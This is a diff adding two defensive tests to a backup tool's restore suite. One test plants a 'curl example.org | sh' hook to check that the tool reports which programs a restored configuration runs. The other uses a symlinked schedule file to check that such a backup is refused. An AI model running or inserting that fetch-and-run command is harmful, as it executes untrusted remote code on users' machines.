@@ -1,5 +1,5 @@
 import { randomBytes } from 'node:crypto'
-import { existsSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs'
+import { existsSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
 import path from 'node:path'
 import { describe, expect, test } from 'vitest'
 import { type ComebackWish, comeBack } from '../../../main/engine/comeback/come-back.ts'
@@ -10,6 +10,7 @@ import { verifyHistory } from '../../../main/engine/history/verify-history.ts'
 import { ProblemError } from '../../../main/engine/problem-error.ts'
 import { homeHost, knownSnapshots } from '../../../main/engine/state/queries.ts'
 import { type OwnBench, ownBench, ownConfiguration } from '../../helpers/own-bench.ts'
+import { rawRestic } from '../../helpers/raw-restic.ts'
 import { scheduleBench } from '../../helpers/schedule-bench.ts'
 import { temporaryFolder } from '../../helpers/temporary-folder.ts'
 import { recorded, testHost } from '../../helpers/temporary-home.ts'
@@ -238,6 +239,35 @@ describe('a machine that comes back', () => {
     expect(done).toMatchObject({ verdict: 'done', runs: [{ kind: 'comeback' }] })
     expect(done.remarks?.join(' ')).toMatch(/notes was left as it is, for .*notes holds something already/)
     expect(done.remarks?.join(' ')).toContain('gone was not restored')
+  })
+
+  test('tells which programs its configuration runs, before any of that is in force', async () => {
+    const [daily, web] = [ownConfiguration.plans.daily, { command: ['notify', '--loud'], on: ['failed'] }]
+    const hooks = { before: { command: ['sh', '-c', 'curl example.org | sh'] } }
+    const old = await lost({
+      configuration: { ...ownConfiguration, plans: { daily, now: { ...daily, enabled: false, hooks } }, notifications: { command: web } },
+    })
+    const home = await anew(old)
+    const [told] = await lookForMachines(home.core, wishFor(old), testHost())
+    expect(told?.notes.join(' ')).toContain('runs programs by itself: sh -c curl example.org | sh and notify --loud.')
+  })
+
+  test('whose own things are no plain files leads nobody to read others', async () => {
+    const old = await lost()
+    const elsewhere = path.join(old.person, 'elsewhere.json')
+    writeFileSync(elsewhere, JSON.stringify(ownConfiguration))
+    const crafted = temporaryFolder('crafted')
+    writeFileSync(path.join(crafted, 'own.json'), JSON.stringify({ version: 1, host: 'laptop', person: old.person }))
+    writeFileSync(path.join(crafted, 'system-history.jsonl'), '')
+    symlinkSync(elsewhere, path.join(crafted, 'backup_schedule.json'))
+    const restic = rawRestic(path.join(old.person, 'drive'), passwordOf(old), crafted)
+    await restic('backup', '--host', 'laptop', '--tag', 'vaultkeeper:own', '--time', '2030-01-01 00:00:00', '.')
+    const home = await anew(old)
+    const [told] = await lookForMachines(home.core, wishFor(old), testHost())
+    expect(told?.notes.join(' ')).toContain('cannot be read whole')
+    expect(await refusal(comeBack(home.core, wishFor(old), testHost()))).toBe('own-not-whole')
+    expect(existsSync(path.join(home.root, 'backup_schedule.json'))).toBe(false)
+    expect(readdirSync(home.core.home.temporary)).toEqual([])
   })
 
   test('made by an older Vaultkeeper, which kept nothing of itself, is proposed a configuration and keeps its name', async () => {
